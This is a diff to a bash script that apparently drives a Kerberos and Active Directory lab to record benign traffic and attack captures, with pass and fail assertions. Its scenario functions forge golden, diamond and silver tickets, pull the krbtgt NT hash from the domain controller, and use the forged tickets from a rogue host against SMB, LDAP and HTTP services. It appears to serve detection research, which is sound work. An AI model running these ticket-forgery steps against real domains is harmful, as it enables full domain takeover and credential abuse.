@@ -85,6 +85,25 @@ fast() {
 	machine "$1" -f
 	login "$1" "$2" -T "$(cc "$1" "${1^^}\$")"
 }
+fragments() { # a host that insists on UDP: the other realm's KDC is asked in fragments
+	CONF=/etc/krb5-udp.conf login "$1" "$2"
+	with "$1" "$2" env KRB5_CONFIG=/etc/krb5-udp.conf \
+		kvno -q "HTTP/$GATE.$MIT_DOMAIN@$MIT_REALM"
+	web "$1" "$2" "$GATE.$MIT_DOMAIN"
+}
+pkinit() { # a certificate instead of a password
+	with "$1" "brina@$MIT_REALM" kinit -X \
+		X509_user_identity="FILE:$LAB/keys/brina.pem,$LAB/keys/brina.key" "brina@$MIT_REALM"
+	web "$1" "brina@$MIT_REALM" "$GATE.$MIT_DOMAIN"
+}
+delegate() { # the web service gets a forwarded TGT and acts with it from its own host
+	login "$1" "$2" -f
+	web "$1" "$2" "intra.$DOMAIN" '--delegation always'
+	on "$FS" sh -c 'cp "/run/deleg/$1" "$2"' deleg "$2@$REALM" "$(cc "$FS" "$2")"
+	keep "$FS" "$2"
+	ldap "$FS" "$2" GSSAPI; web "$FS" "$2" "$GATE.$MIT_DOMAIN"
+}
+tkey() { with "$FS" dns net ads dns register -P; } # DNS update under a GSS key
 user() { # user N: the n-th user
 	local u; read -ra u <<<"$USERS"; echo "${u[$1 % ${#u[@]}]}"
 }
@@ -156,6 +175,10 @@ rare() {
 	login desk3 "$(user 2)"; smb desk3 "$(user 2)" "$FS"; web desk3 "$(user 2)"
 	machine desk1 -f; login desk1 "$(user 4)" -T "$(cc desk1 'DESK1$')"
 	ask desk1 "$(user 4)" "host/desk2.$DOMAIN" "app/legacy.$DOMAIN"
+	fragments desk4 "$(user 6)"; fragments desk3 "$(user 7)"
+	pkinit desk2
+	delegate desk4 "$(user 4)"
+	tkey
 }
 
 # Honest colleagues of an attack: everybody fetches tickets anew, the member server too.
@@ -185,13 +208,23 @@ pocket() { # pocket NAME: the rogue host takes a forged ccache as its own
 KRBTGT() { echo krbtgt; }
 kvno_now() { echo $((KRBTGT_ROT + 1)); }
 
-use_tgt() { # use_tgt NAME: what a golden ticket is for
-	pocket "$1"
-	ask "$ROGUE" "$1" "cifs/$FS.$DOMAIN" || true
-	with "$ROGUE" "$1" "$HERE/client" smb "$FS.$DOMAIN"
-	ask "$ROGUE" "$1" "cifs/$DC.$DOMAIN" || true
-	with "$ROGUE" "$1" "$HERE/client" smb "$DC.$DOMAIN"
-	ldap "$ROGUE" "$1" GSSAPI
+must() { # must CMD...: what an attack's description claims; mustnt likewise
+	"$@" && return 0
+	say "UNEXPECTED: failed: $*"; FAILED=1
+}
+mustnt() {
+	"$@" || return 0
+	say "UNEXPECTED: went well: $*"; FAILED=1
+}
+
+use_tgt() { # use_tgt must|mustnt NAME: what a golden ticket is for
+	local so=$1 n=$2
+	pocket "$n"
+	$so ask "$ROGUE" "$n" "cifs/$FS.$DOMAIN"
+	$so with "$ROGUE" "$n" "$HERE/client" smb "$FS.$DOMAIN"
+	$so ask "$ROGUE" "$n" "cifs/$DC.$DOMAIN"
+	$so with "$ROGUE" "$n" "$HERE/client" smb "$DC.$DOMAIN"
+	$so ldap "$ROGUE" "$n" GSSAPI
 }
 
 # The scenarios. Each function name is "s_" and the capture's name with _ for -.
@@ -209,11 +242,11 @@ s_benign_hour() { # small, for the derived forms
 }
 s_golden_aes() {
 	forge stock golden-aes --key-of "$(KRBTGT)" --requestor --kvno "$(kvno_now)"
-	start golden-aes; morning; use_tgt golden-aes; evening; stop golden-aes
+	start golden-aes; morning; use_tgt must golden-aes; evening; stop golden-aes
 }
 s_golden_rc4() {
 	forge stock golden-rc4 --nthash "$(on "$DC" "$HERE/populate" nthash krbtgt)" --requestor
-	start golden-rc4; morning; use_tgt golden-rc4; evening; stop golden-rc4
+	start golden-rc4; morning; use_tgt mustnt golden-rc4; evening; stop golden-rc4
 }
 s_golden_refused() { # stock kvno; no requestor in the PAC; a user who does not exist
 	forge stock refused-kvno --key-of "$(KRBTGT)" --requestor
@@ -222,33 +255,33 @@ s_golden_refused() { # stock kvno; no requestor in the PAC; a user who does not 
 		--user phantom --rid 4711
 	start golden-refused; morning
 	local n; for n in refused-kvno refused-pac refused-user; do
-		pocket $n; ask "$ROGUE" $n "cifs/$FS.$DOMAIN"
+		pocket $n; mustnt ask "$ROGUE" $n "cifs/$FS.$DOMAIN"
 	done
-	with "$ROGUE" refused-user "$HERE/client" tgs "cifs/$DC.$DOMAIN"
+	mustnt with "$ROGUE" refused-user "$HERE/client" tgs "cifs/$DC.$DOMAIN"
 	evening; stop golden-refused
 }
 s_golden_careful() { # an honest ticket got long ago, reopened with the key: all looks right
 	login desk2 "$(user 0)"
 	forge remake golden-careful --key-of "$(KRBTGT)" --template "$(cc desk2 "$(user 0)")"
-	start golden-careful; morning; use_tgt golden-careful; evening; stop golden-careful
+	start golden-careful; morning; use_tgt must golden-careful; evening; stop golden-careful
 }
 s_diamond() { # the same, the honest ticket fetched in sight
 	start diamond; morning
 	login "$ROGUE" "$(user 1)"
 	forge remake diamond --key-of "$(KRBTGT)" --template "$(cc "$ROGUE" "$(user 1)")"
-	use_tgt diamond; evening; stop diamond
+	use_tgt must diamond; evening; stop diamond
 }
 s_silver_smb() {
 	forge stock silver-smb --keytab "$LAB/keys/fs.keytab" --key-of "${FS^^}\$" \
 		--spn "cifs/$FS.$DOMAIN"
 	start silver-smb; morning
-	pocket silver-smb; with "$ROGUE" silver-smb "$HERE/client" smb "$FS.$DOMAIN"
+	pocket silver-smb; must with "$ROGUE" silver-smb "$HERE/client" smb "$FS.$DOMAIN"
 	evening; stop silver-smb
 }
 s_silver_http() {
 	forge stock silver-http --key-of svc-web --spn "HTTP/intra.$DOMAIN"
 	start silver-http; morning
-	pocket silver-http; web "$ROGUE" silver-http; web "$ROGUE" silver-http
+	pocket silver-http; must web "$ROGUE" silver-http; must web "$ROGUE" silver-http
 	evening; stop silver-http
 }
 s_silver_refused() {
@@ -256,8 +289,8 @@ s_silver_refused() {
 		--spn "cifs/$FS.$DOMAIN" --wrong-key
 	forge stock silver-refused-http --key-of svc-web --spn "HTTP/intra.$DOMAIN" --wrong-key
 	start silver-refused; morning
-	pocket silver-refused; with "$ROGUE" silver-refused "$HERE/client" smb "$FS.$DOMAIN"
-	pocket silver-refused-http; web "$ROGUE" silver-refused-http
+	pocket silver-refused; mustnt with "$ROGUE" silver-refused "$HERE/client" smb "$FS.$DOMAIN"
+	pocket silver-refused-http; mustnt web "$ROGUE" silver-refused-http
 	evening; stop silver-refused
 }
 s_spn_substitution() { # host/ became cifs/ in the clear part: same account, same key
@@ -266,7 +299,7 @@ s_spn_substitution() { # host/ became cifs/ in the clear part: same account, sam
 	forge rename edited-host-to-cifs --template "$(cc "$ROGUE" "$(user 7)")" \
 		--key-of "host/$FS" --spn "cifs/$FS.$DOMAIN"
 	pocket edited-host-to-cifs
-	with "$ROGUE" edited-host-to-cifs "$HERE/client" smb "$FS.$DOMAIN"
+	must with "$ROGUE" edited-host-to-cifs "$HERE/client" smb "$FS.$DOMAIN"
 	evening; stop spn-substitution
 }
 s_late_sensor() {
